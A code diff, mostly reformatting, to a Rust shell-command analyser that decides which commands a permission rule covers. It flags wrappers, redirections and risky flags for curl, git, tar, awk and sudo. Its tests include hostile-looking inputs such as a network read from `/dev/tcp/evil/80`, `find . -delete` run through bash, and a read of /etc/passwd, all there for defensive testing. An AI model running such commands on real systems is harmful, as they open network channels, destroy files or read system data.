@@ -52,10 +52,11 @@ pub fn read(simple: &Simple) -> Result<Reading, Opaque> {
         match redirect {
             Redirect::Harmless => {}
             Redirect::Reads(path) => {
-                if path.starts_with("/dev/") || path.starts_with("/proc/") {
-                    // `/dev/tcp/host/port` is a network connection to bash, not a file.
-                    reading.uncovered.get_or_insert("a redirection from a device");
-                }
+                // A file the rule never named (or `/dev/tcp/host/port`, a network connection
+                // to bash) as the program's input.
+                reading
+                    .uncovered
+                    .get_or_insert("a redirection that reads a file");
                 reading.operands.push(path.clone());
             }
             Redirect::Writes(path) => {
@@ -231,7 +232,9 @@ fn uncovered(name: &str, args: &[String]) -> Option<&'static str> {
     let has = |options: &[&str]| {
         args.iter().any(|a| {
             options.iter().any(|o| {
-                a == o || (o.starts_with("--") && a.strip_prefix(o).is_some_and(|r| r.starts_with('=')))
+                a == o
+                    || (o.starts_with("--")
+                        && a.strip_prefix(o).is_some_and(|r| r.starts_with('=')))
             })
         })
     };
@@ -241,8 +244,9 @@ fn uncovered(name: &str, args: &[String]) -> Option<&'static str> {
             "-fprintf",
         ])
         .then_some("find with -exec, -ok, -delete or -fprint runs programs or writes files"),
-        "fd" | "fdfind" => has(&["-x", "--exec", "-X", "--exec-batch"])
-            .then_some("fd --exec runs other programs"),
+        "fd" | "fdfind" => {
+            has(&["-x", "--exec", "-X", "--exec-batch"]).then_some("fd --exec runs other programs")
+        }
         "rg" | "grep" | "egrep" | "fgrep" => has(&["--pre", "--hostname-bin"])
             .then_some("--pre and --hostname-bin run other programs"),
         "git" => git_uncovered(args),
@@ -251,10 +255,21 @@ fn uncovered(name: &str, args: &[String]) -> Option<&'static str> {
             .then_some("sort -o writes a file; --compress-program runs one"),
         "tar" => tar_uncovered(args),
         "curl" => (has(&[
-            "--output", "--remote-name", "--remote-name-all", "--config", "--dump-header",
-            "--cookie-jar", "--trace", "--trace-ascii", "--libcurl", "--stderr", "--upload-file",
+            "--output",
+            "--remote-name",
+            "--remote-name-all",
+            "--config",
+            "--dump-header",
+            "--cookie-jar",
+            "--trace",
+            "--trace-ascii",
+            "--libcurl",
+            "--stderr",
+            "--upload-file",
             "--output-dir",
-        ]) || ['o', 'O', 'K', 'D', 'c', 'T'].iter().any(|c| short_bundle_has(args, *c)))
+        ]) || ['o', 'O', 'K', 'D', 'c', 'T']
+            .iter()
+            .any(|c| short_bundle_has(args, *c)))
         .then_some("curl with -o, -O, -T, -K, -c or -D writes or uploads files"),
         "wget" => {
             let to_stdout = args.iter().any(|a| {
@@ -292,9 +307,10 @@ fn git_subcommand(args: &[String]) -> Option<usize> {
 fn git_uncovered(args: &[String]) -> Option<&'static str> {
     let sub = git_subcommand(args);
     let global = &args[..sub.unwrap_or(args.len())];
-    if global.iter().any(|a| {
-        a == "-c" || a.starts_with("--config-env") || a.starts_with("--exec-path=")
-    }) {
+    if global
+        .iter()
+        .any(|a| a == "-c" || a.starts_with("--config-env") || a.starts_with("--exec-path="))
+    {
         return Some("git -c and --config-env set configuration that can run programs");
     }
     let Some(at) = sub else { return None };
@@ -306,11 +322,35 @@ fn git_uncovered(args: &[String]) -> Option<&'static str> {
                 .any(|o| a == o || a.strip_prefix(o).is_some_and(|r| r.starts_with('=')))
         })
     };
-    if any(&["--output", "--ext-diff", "--textconv", "--upload-pack", "--receive-pack", "--exec"]) {
-        return Some("git --output, --ext-diff, --textconv, --exec and --upload-pack write files or run programs");
+    if any(&[
+        "--output",
+        "--ext-diff",
+        "--textconv",
+        "--upload-pack",
+        "--receive-pack",
+        "--exec",
+    ]) {
+        return Some(
+            "git --output, --ext-diff, --textconv, --exec and --upload-pack write files or run programs",
+        );
     }
     match sub {
-        "branch" if any(&["-d", "-D", "--delete", "-m", "-M", "--move", "-c", "-C", "--copy", "-f", "--force", "--edit-description"]) => {
+        "branch"
+            if any(&[
+                "-d",
+                "-D",
+                "--delete",
+                "-m",
+                "-M",
+                "--move",
+                "-c",
+                "-C",
+                "--copy",
+                "-f",
+                "--force",
+                "--edit-description",
+            ]) =>
+        {
             Some("git branch -d, -D, -m, -M, -c and -f change branches")
         }
         "tag" if any(&["-d", "--delete", "-f", "--force"]) => Some("git tag -d and -f change tags"),
@@ -319,7 +359,9 @@ fn git_uncovered(args: &[String]) -> Option<&'static str> {
         "archive" | "format-patch" if any(&["-o", "--output-directory"]) => {
             Some("git archive -o and format-patch -o write files")
         }
-        "submodule" if rest.iter().any(|a| a == "foreach") => Some("git submodule foreach runs a command"),
+        "submodule" if rest.iter().any(|a| a == "foreach") => {
+            Some("git submodule foreach runs a command")
+        }
         "bisect" if rest.iter().any(|a| a == "run") => Some("git bisect run runs a command"),
         "difftool" | "mergetool" | "filter-branch" | "daemon" | "instaweb" => {
             Some("this git subcommand runs other programs")
@@ -330,7 +372,8 @@ fn git_uncovered(args: &[String]) -> Option<&'static str> {
 
 fn sed_in_place(args: &[String]) -> bool {
     args.iter().take_while(|a| *a != "--").any(|a| {
-        a.starts_with("--in-place") || (a.starts_with('-') && !a.starts_with("--") && a[1..].contains('i'))
+        a.starts_with("--in-place")
+            || (a.starts_with('-') && !a.starts_with("--") && a[1..].contains('i'))
     })
 }
 
@@ -489,7 +532,9 @@ fn sed_script_is_safe(script: &str) -> bool {
                     return false;
                 }
                 if command == 's' {
-                    while i < s.len() && matches!(s[i], 'g' | 'p' | 'i' | 'I' | 'm' | 'M' | '0'..='9') {
+                    while i < s.len()
+                        && matches!(s[i], 'g' | 'p' | 'i' | 'I' | 'm' | 'M' | '0'..='9')
+                    {
                         i += 1;
                     }
                 }
@@ -502,7 +547,8 @@ fn sed_script_is_safe(script: &str) -> bool {
 }
 
 fn tar_uncovered(args: &[String]) -> Option<&'static str> {
-    const WHY: &str = "tar only reads when it lists (-t): it extracts, creates and runs programs otherwise";
+    const WHY: &str =
+        "tar only reads when it lists (-t): it extracts, creates and runs programs otherwise";
     let mut letters = String::new();
     let mut long = Vec::new();
     for (i, a) in args.iter().enumerate() {
@@ -520,9 +566,21 @@ fn tar_uncovered(args: &[String]) -> Option<&'static str> {
         || long.iter().any(|l| {
             matches!(
                 *l,
-                "extract" | "get" | "create" | "append" | "update" | "catenate" | "concatenate"
-                    | "delete" | "to-command" | "checkpoint-action" | "use-compress-program"
-                    | "rsh-command" | "info-script" | "new-volume-script" | "rmt-command"
+                "extract"
+                    | "get"
+                    | "create"
+                    | "append"
+                    | "update"
+                    | "catenate"
+                    | "concatenate"
+                    | "delete"
+                    | "to-command"
+                    | "checkpoint-action"
+                    | "use-compress-program"
+                    | "rsh-command"
+                    | "info-script"
+                    | "new-volume-script"
+                    | "rmt-command"
                     | "index-file"
             )
         });
@@ -536,7 +594,9 @@ fn awk_uncovered(args: &[String]) -> Option<&'static str> {
     while i < args.len() {
         let a = args[i].as_str();
         match a {
-            "-f" | "--file" | "-E" | "--exec" | "-i" | "--include" | "-l" | "--load" => return Some(WHY),
+            "-f" | "--file" | "-E" | "--exec" | "-i" | "--include" | "-l" | "--load" => {
+                return Some(WHY);
+            }
             "-F" | "-v" | "--field-separator" | "--assign" => i += 1,
             "--" => {
                 program = args.get(i + 1).map(String::as_str);
@@ -546,7 +606,13 @@ fn awk_uncovered(args: &[String]) -> Option<&'static str> {
                 program = args.get(i + 1).map(String::as_str);
                 break;
             }
-            _ if a.starts_with("-f") || a.starts_with("--file=") || a.starts_with("--load=") || a.starts_with("--include=") => return Some(WHY),
+            _ if a.starts_with("-f")
+                || a.starts_with("--file=")
+                || a.starts_with("--load=")
+                || a.starts_with("--include=") =>
+            {
+                return Some(WHY);
+            }
             _ if a.starts_with('-') => {}
             _ => {
                 program = Some(a);
@@ -556,8 +622,12 @@ fn awk_uncovered(args: &[String]) -> Option<&'static str> {
         i += 1;
     }
     let program = program?;
-    (program.contains("system") || program.contains('|') || program.contains('>')
-        || program.contains("getline") || program.contains("close") || program.contains("@load"))
+    (program.contains("system")
+        || program.contains('|')
+        || program.contains('>')
+        || program.contains("getline")
+        || program.contains("close")
+        || program.contains("@load"))
     .then_some(WHY)
 }
 
@@ -588,11 +658,11 @@ fn operands_start(args: &[String], g: &Grammar) -> Option<usize> {
         } else if g.valued.contains(&a) {
             i += 2;
         } else if a.starts_with("--")
-            && a.split_once('=').is_some_and(|(n, _)| g.valued.contains(&n) || g.flags.contains(&n))
+            && a.split_once('=')
+                .is_some_and(|(n, _)| g.valued.contains(&n) || g.flags.contains(&n))
         {
             i += 1;
-        } else if !a.starts_with("--")
-            && g.valued.iter().any(|v| v.len() == 2 && a.starts_with(v))
+        } else if !a.starts_with("--") && g.valued.iter().any(|v| v.len() == 2 && a.starts_with(v))
         {
             i += 1;
         } else {
@@ -604,13 +674,41 @@ fn operands_start(args: &[String], g: &Grammar) -> Option<usize> {
 
 const XARGS: Grammar = Grammar {
     valued: &[
-        "-a", "-d", "-E", "-I", "-L", "-n", "-P", "-s", "--arg-file", "--delimiter", "--eof",
-        "--replace", "--max-lines", "--max-args", "--max-procs", "--max-chars",
+        "-a",
+        "-d",
+        "-E",
+        "-I",
+        "-L",
+        "-n",
+        "-P",
+        "-s",
+        "--arg-file",
+        "--delimiter",
+        "--eof",
+        "--replace",
+        "--max-lines",
+        "--max-args",
+        "--max-procs",
+        "--max-chars",
         "--process-slot-var",
     ],
     flags: &[
-        "-0", "--null", "-o", "--open-tty", "-p", "--interactive", "-r", "--no-run-if-empty",
-        "-t", "--verbose", "-x", "--exit", "--show-limits", "-i", "-l", "-e",
+        "-0",
+        "--null",
+        "-o",
+        "--open-tty",
+        "-p",
+        "--interactive",
+        "-r",
+        "--no-run-if-empty",
+        "-t",
+        "--verbose",
+        "-x",
+        "--exit",
+        "--show-limits",
+        "-i",
+        "-l",
+        "-e",
     ],
     numeric: false,
 };
@@ -677,11 +775,24 @@ fn wrapped(name: &str, args: &[String]) -> Result<Wrapped, Opaque> {
         }),
         "time" => after(&Grammar {
             valued: &["-o", "--output", "-f", "--format"],
-            flags: &["-p", "-a", "--append", "-v", "--verbose", "-q", "--quiet", "--portability"],
+            flags: &[
+                "-p",
+                "-a",
+                "--append",
+                "-v",
+                "--verbose",
+                "-q",
+                "--quiet",
+                "--portability",
+            ],
             numeric: false,
         }),
         "command" => {
-            if args.iter().take_while(|a| a.starts_with('-')).any(|a| a.contains(['v', 'V'])) {
+            if args
+                .iter()
+                .take_while(|a| a.starts_with('-'))
+                .any(|a| a.contains(['v', 'V']))
+            {
                 return Ok(Wrapped::Nothing);
             }
             after(&Grammar {
@@ -691,14 +802,26 @@ fn wrapped(name: &str, args: &[String]) -> Result<Wrapped, Opaque> {
             })
         }
         "env" => {
-            if args.iter().any(|a| a == "-S" || a.starts_with("--split-string") || (a.starts_with("-S") && !a.starts_with("--"))) {
+            if args.iter().any(|a| {
+                a == "-S"
+                    || a.starts_with("--split-string")
+                    || (a.starts_with("-S") && !a.starts_with("--"))
+            }) {
                 return Ok(Wrapped::Hidden);
             }
             let Some(mut at) = operands_start(
                 args,
                 &Grammar {
                     valued: &["-u", "--unset", "-C", "--chdir"],
-                    flags: &["-i", "--ignore-environment", "-0", "--null", "-v", "--debug", "-"],
+                    flags: &[
+                        "-i",
+                        "--ignore-environment",
+                        "-0",
+                        "--null",
+                        "-v",
+                        "--debug",
+                        "-",
+                    ],
                     numeric: false,
                 },
             ) else {
@@ -716,19 +839,61 @@ fn wrapped(name: &str, args: &[String]) -> Result<Wrapped, Opaque> {
         "sudo" | "doas" => {
             let g = Grammar {
                 valued: &[
-                    "-u", "-g", "-h", "-p", "-C", "-D", "-r", "-t", "-T", "-U", "--user", "--group",
-                    "--host", "--prompt", "--close-from", "--chdir", "--role", "--type",
-                    "--command-timeout", "--other-user",
+                    "-u",
+                    "-g",
+                    "-h",
+                    "-p",
+                    "-C",
+                    "-D",
+                    "-r",
+                    "-t",
+                    "-T",
+                    "-U",
+                    "--user",
+                    "--group",
+                    "--host",
+                    "--prompt",
+                    "--close-from",
+                    "--chdir",
+                    "--role",
+                    "--type",
+                    "--command-timeout",
+                    "--other-user",
                 ],
                 flags: &[
-                    "-A", "-b", "-E", "-H", "-K", "-k", "-n", "-P", "-S", "-B", "-N",
-                    "--askpass", "--background", "--preserve-env", "--set-home", "--non-interactive",
-                    "--stdin", "--bell", "--no-update", "--remove-timestamp", "--reset-timestamp",
-                    "-s", "--shell", "-i", "--login",
+                    "-A",
+                    "-b",
+                    "-E",
+                    "-H",
+                    "-K",
+                    "-k",
+                    "-n",
+                    "-P",
+                    "-S",
+                    "-B",
+                    "-N",
+                    "--askpass",
+                    "--background",
+                    "--preserve-env",
+                    "--set-home",
+                    "--non-interactive",
+                    "--stdin",
+                    "--bell",
+                    "--no-update",
+                    "--remove-timestamp",
+                    "--reset-timestamp",
+                    "-s",
+                    "--shell",
+                    "-i",
+                    "--login",
                 ],
                 numeric: false,
             };
-            if args.iter().take_while(|a| a.starts_with('-')).any(|a| a == "-e" || a == "--edit") {
+            if args
+                .iter()
+                .take_while(|a| a.starts_with('-'))
+                .any(|a| a == "-e" || a == "--edit")
+            {
                 return Err(Opaque("sudo -e edits files as another user"));
             }
             match operands_start(args, &g) {
@@ -744,13 +909,13 @@ fn wrapped(name: &str, args: &[String]) -> Result<Wrapped, Opaque> {
         } else {
             Wrapped::Command(0)
         }),
-        "bash" | "sh" | "zsh" | "dash" | "ksh" | "mksh" | "ash" | "yash" | "posh" => shell_script(args),
-        "su" | "runuser" => {
-            match args.iter().position(|a| a == "-c" || a == "--command") {
-                Some(at) if at + 1 < args.len() => Ok(Wrapped::Script(at + 1)),
-                _ => Ok(Wrapped::Hidden),
-            }
+        "bash" | "sh" | "zsh" | "dash" | "ksh" | "mksh" | "ash" | "yash" | "posh" => {
+            shell_script(args)
         }
+        "su" | "runuser" => match args.iter().position(|a| a == "-c" || a == "--command") {
+            Some(at) if at + 1 < args.len() => Ok(Wrapped::Script(at + 1)),
+            _ => Ok(Wrapped::Hidden),
+        },
         "watch" | "flock" | "chroot" | "unshare" | "nsenter" | "taskset" | "systemd-run"
         | "script" | "strace" | "ltrace" | "valgrind" | "gdb" | "perf" | "parallel" | "ssh"
         | "chrt" | "firejail" | "bwrap" | "fakeroot" | "proot" | "nix-shell" | "unbuffer" => {
@@ -840,7 +1005,10 @@ mod tests {
         assert_eq!(runs("command rm x").last().unwrap(), "rm x");
         assert_eq!(runs("stdbuf -oL rm x").last().unwrap(), "rm x");
         assert_eq!(runs("xargs -0 -n1 rm").last().unwrap(), "rm");
-        assert_eq!(runs("bash -c 'git push --force'").last().unwrap(), "git push --force");
+        assert_eq!(
+            runs("bash -c 'git push --force'").last().unwrap(),
+            "git push --force"
+        );
         assert_eq!(runs("sh -ec 'ls; rm x'").last().unwrap(), "rm x");
         assert_eq!(runs("git -C dir -c a=b push").last().unwrap(), "git push");
         assert_eq!(
@@ -915,6 +1083,7 @@ mod tests {
             "awk -f prog f",
             "npm test > out.txt",
             "cat < /dev/tcp/evil/80",
+            "sort < in.txt",
             "timeout 5 find . -delete",
             "bash -c 'find . -delete'",
         ] {
@@ -950,7 +1119,6 @@ mod tests {
             "wget -qO- https://example.com",
             "awk '{print $1}' f",
             "awk -F: '{print $1}' /etc/passwd",
-            "sort < in.txt",
         ] {
             let r = reading(command).unwrap_or_else(|e| panic!("{command}: {e:?}"));
             assert_eq!(r.uncovered, None, "{command}");
@@ -962,7 +1130,10 @@ mod tests {
         assert_eq!(reading("tee -a a b").unwrap().writes, vec!["a", "b"]);
         assert_eq!(reading("cp x y").unwrap().writes, vec!["x", "y"]);
         assert_eq!(reading("dd if=a of=b").unwrap().writes, vec!["a", "b"]);
-        assert_eq!(reading("sed -i s/a/b/ f").unwrap().writes, vec!["s/a/b/", "f"]);
+        assert_eq!(
+            reading("sed -i s/a/b/ f").unwrap().writes,
+            vec!["s/a/b/", "f"]
+        );
         assert_eq!(reading("echo x > out").unwrap().writes, vec!["out"]);
         assert!(reading("cat f").unwrap().writes.is_empty());
         assert_eq!(reading("cd sub").unwrap().chdir, Some(Some("sub".into())));
@@ -971,8 +1142,14 @@ mod tests {
 
     #[test]
     fn a_wrapper_is_covered_only_by_a_rule_that_names_what_it_runs() {
-        assert_eq!(reading("timeout 60 cargo test").unwrap().wraps_from, Some(2));
-        assert_eq!(reading("sudo -u x timeout 5 rm a").unwrap().wraps_from, Some(5));
+        assert_eq!(
+            reading("timeout 60 cargo test").unwrap().wraps_from,
+            Some(2)
+        );
+        assert_eq!(
+            reading("sudo -u x timeout 5 rm a").unwrap().wraps_from,
+            Some(5)
+        );
         assert_eq!(reading("xargs -0 rm").unwrap().wraps_from, Some(2));
         assert_eq!(reading("bash -lc 'npm test'").unwrap().wraps_from, Some(2));
         assert_eq!(reading("ssh host ls").unwrap().wraps_from, Some(1));
